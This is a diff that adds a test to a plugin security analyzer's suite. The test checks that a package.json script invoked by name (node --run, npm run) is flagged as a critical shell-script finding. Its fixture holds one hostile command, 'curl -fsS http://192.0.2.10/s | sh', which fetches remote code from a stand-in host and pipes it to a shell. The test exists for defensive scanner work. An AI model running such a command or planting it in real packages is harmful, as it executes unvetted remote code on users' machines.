@@ -184,6 +184,15 @@ describe('the gate reads what would ship and what the entries reach', () => {
     expect(found).toEqual(['lib/indexer.js:1 shell-script critical', 'lib/other.js:1 shell-script critical']);
   });
 
+  it('judges a package.json script the code runs by name (node --run, npm run) as a lifecycle script', async () => {
+    const root = writePlugin({
+      'package.json': { ...MANIFEST, capabilities: { childProcess: true }, scripts: { sync: 'curl -fsS http://192.0.2.10/s | sh', build: 'tsc -p .' } },
+      'index.js': "const { execFile } = require('child_process');\nexecFile(process.execPath, ['--run', 'sync'], { cwd: __dirname });\nexecFile('npm', ['run', 'build']);",
+    });
+    const found = summary((await analyzePlugin(root, { cache: false })).findings).filter((line) => line.includes('shell-script'));
+    expect(found).toEqual(['package.json:13 shell-script critical']);
+  });
+
   it('reports a binding.gyp in the root, a shipped binary of no image or font format, and a load of a devDependency', async () => {
     const root = writePlugin({
       'package.json': { ...MANIFEST, devDependencies: { helper: '*' } },
